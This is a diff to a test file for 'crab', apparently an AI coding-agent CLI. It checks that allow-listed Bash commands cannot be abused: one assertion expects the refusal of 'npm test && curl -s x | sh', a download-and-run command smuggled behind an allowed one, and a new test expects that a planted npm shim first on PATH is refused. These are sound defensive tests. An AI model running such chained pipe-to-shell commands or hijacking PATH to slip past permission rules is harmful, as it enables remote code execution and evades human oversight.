@@ -183,9 +183,7 @@ Deno.test("crab -p takes --settings as a file and as JSON, and then acts as clau
 Deno.test('crab -p "…" --allowedTools "Read,Edit,Bash(npm test:*)" --max-turns 10 runs as with claude', async () => {
   using s = sandbox();
   s.put("app.txt", "color = red\n");
-  // A stand-in for npm in the workspace, first on PATH.
-  const npm = s.put("bin/npm", '#!/bin/sh\necho "npm $*: 3 passing"\n');
-  Deno.chmodSync(npm, 0o755);
+  s.put("package.json", JSON.stringify({ scripts: { test: "echo 3 passing" } }));
   await using fake = await startFakeModel(script(
     { name: "read", args: { path: "app.txt" } },
     { name: "edit", args: { path: "app.txt", edits: [{ old: "red", new: "blue" }] } },
@@ -206,19 +204,38 @@ Deno.test('crab -p "…" --allowedTools "Read,Edit,Bash(npm test:*)" --max-turns
       "stream-json",
       "--verbose",
     ],
-    { PATH: `${join(s.ws, "bin")}:${s.env.PATH}` },
   );
   assert.equal(r.code, 0, r.stderr);
   assert.equal(Deno.readTextFileSync(join(s.ws, "app.txt")), "color = blue\n");
   const [, edited, tested, piped] = results(fake);
   assert.match(edited, /app\.txt/);
-  assert.equal(tested, "npm test: 3 passing\n");
+  assert.match(tested, /^3 passing$/m);
   assert.match(piped, /^Error \[refused\]: Call refused: run: npm test && curl -s x \| sh/);
   const events = r.stdout.trim().split("\n").map((l) => JSON.parse(l));
   assert.equal(events[0].permissionMode, "default");
   assert.deepEqual(
     events.at(-1).permission_denials.map((d: { tool_input: unknown }) => d.tool_input),
     [{ command: "npm test && curl -s x | sh" }],
+  );
+});
+
+Deno.test("crab -p: a stand-in npm first on PATH, in the workspace, is not what Bash(npm test:*) allows", async () => {
+  using s = sandbox();
+  const npm = s.put("bin/npm", '#!/bin/sh\necho "npm $*: 3 passing"\n');
+  Deno.chmodSync(npm, 0o755);
+  await using fake = await startFakeModel(script({ name: "bash", args: { command: "npm test" } }));
+  const r = await printRun(
+    s,
+    fake,
+    ["-p", "test it", "--allowedTools", "Bash(npm test:*)", "--output-format", "json"],
+    { PATH: `${join(s.ws, "bin")}:${s.env.PATH}` },
+  );
+  assert.equal(r.code, 0, r.stderr);
+  const [tested] = results(fake);
+  assert.match(tested, /^Error \[refused\]: Call refused: run: npm test\./);
+  assert.deepEqual(
+    json(r.stdout).permission_denials.map((d) => d.tool_input),
+    [{ command: "npm test" }],
   );
 });
 
